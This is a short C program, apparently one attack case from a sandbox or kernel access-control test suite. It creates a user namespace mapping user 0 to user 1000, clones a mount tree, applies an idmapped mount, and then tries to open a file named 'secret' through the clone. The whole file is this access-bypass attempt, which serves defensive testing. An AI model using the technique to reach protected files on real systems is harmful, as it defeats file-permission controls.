// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/*
 * Clones the mount at the secret's folder, maps its owners, and opens through the clone.
 */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>

/* A user namespace in which user 0 is user 1000; its descriptor. */
static int namespace_of_users(void)
{
	char path[64], byte;
	int ready[2], fd;
	pid_t pid;

	need(pipe(ready), "pipe");
	pid = (pid_t)need(fork(), "fork");
	if (pid == 0) {
		need(unshare(CLONE_NEWUSER), "unshare");
		need(write(ready[1], "x", 1), "write");
		pause();
		_exit(0);
	}
	need(read(ready[0], &byte, 1), "read");
	snprintf(path, sizeof(path), "/proc/%d/uid_map", pid);
	write_text(path, "0 1000 1000");
	snprintf(path, sizeof(path), "/proc/%d/gid_map", pid);
	write_text(path, "0 1000 1000");
	snprintf(path, sizeof(path), "/proc/%d/ns/user", pid);
	fd = (int)need(open(path, O_RDONLY | O_CLOEXEC), path);
	return fd;
}

int main(void)
{
	struct mount_attr attributes = { .attr_set = MOUNT_ATTR_IDMAP, .userns_fd = (uint64_t)namespace_of_users() };
	int tree = (int)step(open_tree(AT_FDCWD, READ, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC), "open_tree");

	need(mount_setattr(tree, "", AT_EMPTY_PATH, &attributes, sizeof(attributes)), "mount_setattr");
	steal_at(tree, "secret");
}
